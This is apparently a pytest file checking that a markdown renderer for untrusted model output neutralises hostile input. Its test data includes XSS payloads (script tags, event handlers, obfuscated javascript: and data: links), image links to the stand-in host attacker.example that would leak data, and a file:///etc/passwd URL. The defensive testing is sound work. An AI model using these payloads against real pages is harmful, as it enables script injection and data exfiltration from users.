"""Model output is untrusted: rendering it must never run script or fetch anything by itself."""

from __future__ import annotations

import re

import pytest

from app.ui.markdown import is_safe_url, render_markdown

HOSTILE = {
    "script tag": "<script>alert(1)</script>",
    "img onerror": '<img src="x" onerror="alert(1)">',
    "svg onload": "<svg onload=alert(1)><circle/></svg>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "inline javascript link": "[click me](javascript:alert(1))",
    "reference javascript link": "[click me][x]\n\n[x]: javascript:alert(1)",
    "entity-encoded javascript link": "[click me](&#106;avascript:alert(1))",
    "tab-split javascript link": "[click me](java\tscript:alert(1))",
    "data html link": "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript link": "[click me](vbscript:msgbox(1))",
    "autolink javascript": "<javascript:alert(1)>",
    "raw anchor": '<a href="javascript:alert(1)">x</a>',
    "style tag": "<style>body{display:none}</style>",
}


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_renders_inert(source):
    html = render_markdown(source)

    tags = re.findall(r"<\s*([a-zA-Z0-9]+)", html)
    assert set(tags) <= {"p", "a", "span", "br"}, html
    assert not re.search(r"<[^>]+\son\w+\s*=", html), "no event-handler attribute on any tag"
    for href in re.findall(r'href="([^"]*)"', html):
        assert href.startswith(("http://", "https://", "mailto:", "#")), href


@pytest.mark.parametrize(
    "source",
    [
        "![secret](https://attacker.example/leak?q=history)",
        '![x](https://attacker.example/p.png "title")',
        "![ref][img]\n\n[img]: https://attacker.example/r.png",
    ],
)
def test_markdown_images_become_links_that_load_nothing(source):
    html = render_markdown(source)

    assert "<img" not in html
    assert 'class="md-image-link" href="https://attacker.example/' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_an_image_with_an_unsafe_source_is_plain_text():
    html = render_markdown("![pic](javascript:alert(1))")

    assert "<a" not in html and "<img" not in html


def test_links_open_in_a_new_tab_without_a_referrer():
    html = render_markdown("[docs](https://example.com/docs)")

    assert html.strip() == (
        '<p><a href="https://example.com/docs" target="_blank" rel="noopener noreferrer nofollow">docs</a></p>'
    )


def test_code_blocks_are_highlighted_and_escaped():
    html = render_markdown("```python\nprint('<b>hi</b>')\n```")

    assert html.startswith('<pre><code class="language-python">')
    assert "&lt;b&gt;" in html and "<b>" not in html
    assert '<span class="nb">print</span>' in html


def test_tables_render():
    html = render_markdown("| a | b |\n|---|---|\n| 1 | 2 |")

    assert "<table>" in html and "<td>1</td>" in html


def test_an_open_code_fence_while_streaming_still_renders_as_code():
    assert render_markdown("```js\nconst x = 1").startswith('<pre><code class="language-js">')


@pytest.mark.parametrize(
    "url,safe",
    [
        ("https://a.b", True),
        ("mailto:x@y.z", True),
        ("#top", True),
        ("JAVASCRIPT:alert(1)", False),
        (" \x01javascript:x", False),
        ("data:image/png;base64,AA", False),
        ("file:///etc/passwd", False),
        ("/relative/path", False),
    ],
)
def test_only_web_and_mail_links_are_safe(url, safe):
    assert is_safe_url(url) is safe
